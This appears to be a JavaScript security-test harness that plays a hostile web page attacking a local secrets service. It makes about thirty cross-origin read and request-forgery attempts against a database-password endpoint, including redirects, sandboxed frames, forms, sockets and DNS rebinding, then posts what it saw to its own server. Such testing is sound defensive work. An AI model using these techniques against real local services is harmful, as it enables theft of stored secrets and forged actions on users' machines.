/**
 * What a hostile page does, in the browser, to `plan.target`: it tries every way there is to read from another origin,
 * or to have something done there, and reports to its own server what it got to see.
 */
const plan = JSON.parse(document.getElementById('plan').textContent)
const patience = 2_500

const secret = `${plan.target}/v1/secrets/db-password`
const events = `${plan.target}/v1/events`
const refresh = `${plan.target}/v1/refresh/db-password`
const rejected = `${plan.target}/v1/rejected/db-password`

/** What a fetch shows, as far as the browser lets the page see it. */
const fetched = async (url, init = {}) => {
  const response = await fetch(url, { ...init, signal: AbortSignal.timeout(patience) })
  return `${response.type === 'opaque' ? '' : `status ${response.status} `}${await response.text()}`
}

/** What an element shows that loads the URL by itself. */
const embedded = (element) =>
  new Promise((resolve) => {
    const seen = []
    const look = () => {
      try {
        seen.push(element.contentDocument?.documentElement?.textContent ?? '')
      } catch {
        seen.push('')
      }
    }
    // Chromium shows a page of its own where a frame could not be loaded, and that is not to be read either.
    element.addEventListener('load', look)
    element.addEventListener('error', () => resolve(seen.join()))
    document.body.append(element)
    setTimeout(() => {
      look()
      resolve(seen.join())
    }, patience)
  })

const make = (tag, properties) => Object.assign(document.createElement(tag), properties)

/** A form that is sent into a frame. */
const sent = (action, fields, enctype = 'application/x-www-form-urlencoded') => {
  const name = `frame-${Math.random()}`
  const frame = make('iframe', { name })
  const form = make('form', { method: 'post', action, enctype, target: name })
  for (const [field, value] of Object.entries(fields)) form.append(make('input', { name: field, value }))
  const shown = embedded(frame)
  document.body.append(form)
  form.submit()
  return shown
}

/** What a stream of messages says until it ends. */
const heard = (source) =>
  new Promise((resolve) => {
    const seen = []
    source.addEventListener('open', () => seen.push('open'))
    source.addEventListener('message', ({ data }) => seen.push(data))
    setTimeout(() => {
      source.close()
      resolve(seen.join())
    }, patience)
  })

const framed = (html) =>
  new Promise((resolve) => {
    const listen = ({ data }) => {
      removeEventListener('message', listen)
      resolve(String(data))
    }
    addEventListener('message', listen)
    document.body.append(make('iframe', { sandbox: 'allow-scripts', srcdoc: html }))
    setTimeout(() => resolve(''), patience)
  })

/** Each resolves to what the page saw, or rejects. `changes`: it is not to read, but to have something done. */
const vectors = {
  'fetch: cors': () => fetched(secret),
  'fetch: cors, with credentials': () => fetched(secret, { credentials: 'include' }),
  'fetch: no-cors': () => fetched(secret, { mode: 'no-cors' }),
  'fetch: with the header of the door': () => fetched(secret, { headers: { 'X-Sidekeep-Request': 'true' } }),
  'fetch: with a token': () => fetched(secret, { headers: { Authorization: 'Bearer CANARY-guess' } }),
  'fetch: with a header that needs no preflight': () =>
    fetched(secret, { headers: { Accept: 'text/plain', 'Accept-Language': 'X-Sidekeep-Request: true' } }),
  'fetch: no referrer': () => fetched(secret, { referrerPolicy: 'no-referrer' }),
  'fetch: the list': () => fetched(`${plan.target}/v1/secrets`),
  'fetch: an explanation': () => fetched(`${plan.target}/v1/explain/db-password`),
  'fetch: the metrics': () => fetched(`${plan.target}/metrics`),
  'fetch: the OpenAPI document': () => fetched(`${plan.target}/openapi.json`),
  'fetch: a redirect to it': () => fetched(`${plan.home}/redirect?to=${encodeURIComponent(secret)}`),
  'fetch: a redirect to it, no-cors': () =>
    fetched(`${plan.home}/redirect?to=${encodeURIComponent(secret)}`, { mode: 'no-cors' }),
  'fetch: from a sandboxed frame': () =>
    framed(
      `<script>fetch(${JSON.stringify(secret)}).then((r) => r.text()).then((t) => parent.postMessage(t, '*'), () => parent.postMessage('', '*'))</script>`,
    ),
  XMLHttpRequest: () =>
    new Promise((resolve) => {
      const call = new XMLHttpRequest()
      call.timeout = patience
      call.onloadend = () => resolve(call.responseText)
      call.open('GET', secret)
      call.send()
    }),
  'an image': () =>
    new Promise((resolve) => {
      const image = make('img', { src: secret })
      image.onload = () => resolve(`${image.width}`)
      image.onerror = () => resolve('')
    }),
  'a script': () => embedded(make('script', { src: secret })),
  'a module': () => import(secret).then((all) => JSON.stringify(all)),
  'a style sheet': () => embedded(make('link', { rel: 'stylesheet', href: secret })),
  'a prefetch': () => embedded(make('link', { rel: 'prefetch', href: secret })),
  'an object': () => embedded(make('object', { data: secret })),
  'a video': () => embedded(make('video', { src: secret })),
  'a worker': () =>
    new Promise((resolve) => {
      const worker = new Worker(secret)
      worker.onmessage = ({ data }) => resolve(String(data))
      worker.onerror = () => resolve('')
      setTimeout(() => resolve(''), patience)
    }),
  'a frame': () => embedded(make('iframe', { src: secret })),
  'a window': () =>
    new Promise((resolve) => {
      const opened = open(secret)
      setTimeout(() => {
        try {
          resolve(opened?.document.documentElement.textContent ?? '')
        } catch {
          resolve('')
        }
        opened?.close()
      }, patience)
    }),
  EventSource: () => heard(new EventSource(events)),
  'EventSource, with credentials': () => heard(new EventSource(events, { withCredentials: true })),
  WebSocket: () => heard(new WebSocket(events.replace('http', 'ws'))),
  'POST: fetch, no-cors': () => fetched(refresh, { method: 'POST', mode: 'no-cors' }),
  'POST: fetch, cors': () => fetched(refresh, { method: 'POST', body: 'a' }),
  'POST: fetch, with the header of the door': () =>
    fetched(refresh, { method: 'POST', headers: { 'X-Sidekeep-Request': 'true' } }),
  'POST: sendBeacon': () => String(navigator.sendBeacon(refresh, 'a')) && '',
  'POST: a form': () => sent(refresh, { a: 'b' }),
  'POST: a form that spells JSON': () => sent(rejected, { '{"version":"': '1"}' }, 'text/plain'),
  'POST: a form with files': () => sent(refresh, { a: 'b' }, 'multipart/form-data'),
}

/** Rebinding: from then on this page's own address is that of the target. */
if (plan.rebinds) await fetch(`${plan.home}/rebind`, { mode: 'no-cors' })

const results = await Promise.all(
  Object.entries(vectors).map(async ([vector, attack]) => {
    try {
      return { vector, saw: await attack() }
    } catch {
      return { vector, saw: '' }
    }
  }),
)
await fetch(`${plan.home}/report`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(results) })
location.href = await (await fetch(`${plan.home}/next`)).text()
